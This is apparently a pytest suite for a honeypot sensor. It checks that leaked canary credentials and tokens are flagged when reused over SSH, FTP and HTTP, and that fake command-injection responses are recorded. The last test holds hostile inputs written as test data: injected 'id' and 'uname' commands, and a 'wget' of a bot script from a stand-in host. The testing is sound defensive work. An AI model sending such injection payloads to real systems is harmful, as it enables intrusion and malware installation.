"""Canary secrets leaked by MitsuWeb's /.env come back on other honeypots (SSH with paramiko, FTP with
ftplib, a token replayed over HTTP): the collector flags each use (`canary.used`, `canary` on the login)
and names the leak. Also: a command injection answered with the fake host's output, seen with curl."""
import ftplib
import os
import socket
import subprocess
import time

import pytest

from conftest import Sensor, free_port_base, wait_for

CONFIG = """
supervisor:
  backoff_initial_ms: 100
honeypots:
  trap: {enabled: false}
  telnet: {enabled: false}
  tftp: {enabled: false}
  mysql: {enabled: false}
  mssql: {enabled: false}
  sip: {enabled: false}
  smb: {enabled: false}
  ssh:
    listen: ["127.0.0.1"]
    tcp_ports: [2222]
    hostname: shop-web01
    auth_rules: ["root:123456", "*:!*"]
    accept_after: 0
  ftp:
    listen: ["127.0.0.1"]
    auth_rules: ["*:!*"]
    accept_after: 0
  web:
    listen: ["127.0.0.1"]
    tcp_ports: [8080]
    https_ports: []
"""

PORTS = (21, 2222, 8080)


def offset():
    for _ in range(100):
        base = free_port_base()
        socks = []
        try:
            for p in PORTS:
                s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
                socks.append(s)
                s.bind(("127.0.0.1", base + p))
            return base
        except OSError:
            continue
        finally:
            for s in socks:
                s.close()
    raise RuntimeError("no free port offset")


@pytest.fixture(scope="module")
def sensor(tmp_path_factory):
    base = tmp_path_factory.mktemp("canary")
    for d in (base, base.parent, base.parent.parent):
        os.chmod(d, 0o755)
    s = Sensor(base, CONFIG, offset(), worker="web").start()
    for w in ("ssh", "ftp"):
        assert wait_for(lambda: s.worker_started(w), 30), s.log()
    yield s
    s.stop()


def curl(*args):
    return subprocess.run(["curl", "-sS", "--max-time", "15", *args], capture_output=True, timeout=30)


def env_values(text):
    return dict(line.split("=", 1) for line in text.splitlines() if "=" in line)


def used(sensor, name, honeypot):
    return [e for e in sensor.events(event="canary.used", honeypot=honeypot) if e["canary"]["name"] == name]


def test_leaked_env_credentials_are_recognised_on_ssh_and_ftp(sensor):
    port = 8080 + sensor.offset
    leak = curl("-A", "leak-reader/1", f"http://127.0.0.1:{port}/.env")
    assert leak.returncode == 0, leak.stderr
    env = env_values(leak.stdout.decode())
    user, password = env["DB_USERNAME"], env["DB_PASSWORD"]
    assert user == "shop_web01_app" and len(password) == 16
    leaked = wait_for(lambda: sensor.events(event="canary.leaked"), 10)
    assert leaked and leaked[0]["canary"]["leak_url"] == "/.env" and "db_password" in leaked[0]["canary"]["name"]

    # The same credentials over SSH (paramiko): refused by the login rules, flagged by the collector.
    paramiko = pytest.importorskip("paramiko")
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    with pytest.raises(paramiko.AuthenticationException):
        c.connect("127.0.0.1", port=2222 + sensor.offset, username=user, password=password, allow_agent=False,
                  look_for_keys=False, timeout=10)
    c.close()
    u = wait_for(lambda: used(sensor, "db_password", "ssh"), 10)
    assert u, sensor.events(event="login.failed")
    e = u[0]
    assert e["username"] == user and e["password"] == password and e["src_ip"] == "127.0.0.1"
    assert e["canary"]["leak_url"] == "/.env" and e["canary"]["leak_honeypot"] == "web"
    assert e["canary"]["leak_session"] == leaked[0]["session"]
    assert e["canary"]["leak_src_ip"] == "127.0.0.1" and e["canary"]["leak_time"] == leaked[0]["@timestamp"]
    login = [l for l in sensor.events(event="login.failed", honeypot="ssh") if l.get("password") == password]
    assert login and login[0]["canary"]["name"] == "db_password" and "canary" in login[0]["attack"]["categories"]

    # And over FTP (ftplib) with the mail password.
    ftp = ftplib.FTP()
    ftp.connect("127.0.0.1", 21 + sensor.offset, timeout=10)
    with pytest.raises(ftplib.error_perm):
        ftp.login("postmaster", env["MAIL_PASSWORD"])
    ftp.close()
    f = wait_for(lambda: used(sensor, "mail_password", "ftp"), 10)
    assert f and f[0]["canary"]["leak_session"] == leaked[0]["session"], sensor.events(honeypot="ftp")

    # An ordinary wrong password is not a canary.
    ftp = ftplib.FTP()
    ftp.connect("127.0.0.1", 21 + sensor.offset, timeout=10)
    with pytest.raises(ftplib.error_perm):
        ftp.login("postmaster", "not-a-canary-password")
    ftp.close()
    assert wait_for(lambda: [l for l in sensor.events(event="login.failed", honeypot="ftp") if l.get("password") == "not-a-canary-password"], 10)
    time.sleep(1)
    assert all(e.get("password") != "not-a-canary-password" for e in sensor.events(event="canary.used"))


def test_leaked_token_replayed_over_http_is_flagged(sensor):
    port = 8080 + sensor.offset
    cfg = curl(f"http://127.0.0.1:{port}/.git/config").stdout.decode()
    token = cfg.split("https://", 1)[1].split("@", 1)[0].split(":", 1)[1]
    assert token.startswith("glpat-")
    curl("-H", f"PRIVATE-TOKEN: {token}", f"http://127.0.0.1:{port}/api/v4/projects")
    u = wait_for(lambda: used(sensor, "git_token", "web"), 10)
    assert u and u[0]["canary"]["leak_url"] == "/.git/config" and u[0]["url"] == "/api/v4/projects"


def test_command_injection_answers_with_the_fake_hosts_output(sensor):
    port = 8080 + sensor.offset
    r = curl(f"http://127.0.0.1:{port}/ping.php?ip=127.0.0.1;id")
    assert r.stdout == b"<pre>uid=33(www-data) gid=33(www-data) groups=33(www-data)\n</pre>\n", r.stdout
    r = curl("-i", f"http://127.0.0.1:{port}/cgi-bin/x.cgi?host=%60uname%20-n%60")
    head, body = r.stdout.split(b"\r\n\r\n", 1)
    assert head.startswith(b"HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\n")
    assert body == b"<pre>shop-web01\n</pre>\n"
    # wget in the injected command: recorded as url.seen; downloads are off, so nothing is fetched.
    r = curl(f"http://127.0.0.1:{port}/x.php?c=1;wget%20http://192.0.2.1/bot.sh")
    assert r.stdout.startswith(b"<pre>")
    assert wait_for(lambda: [e for e in sensor.events(event="url.seen") if e.get("url") == "http://192.0.2.1/bot.sh"], 10)
    assert wait_for(lambda: sensor.events(event="command.input", honeypot="web", input="id"), 10)
    time.sleep(0.5)
    assert not [e for e in sensor.events(honeypot="web") if e["event"].startswith("file.download")]
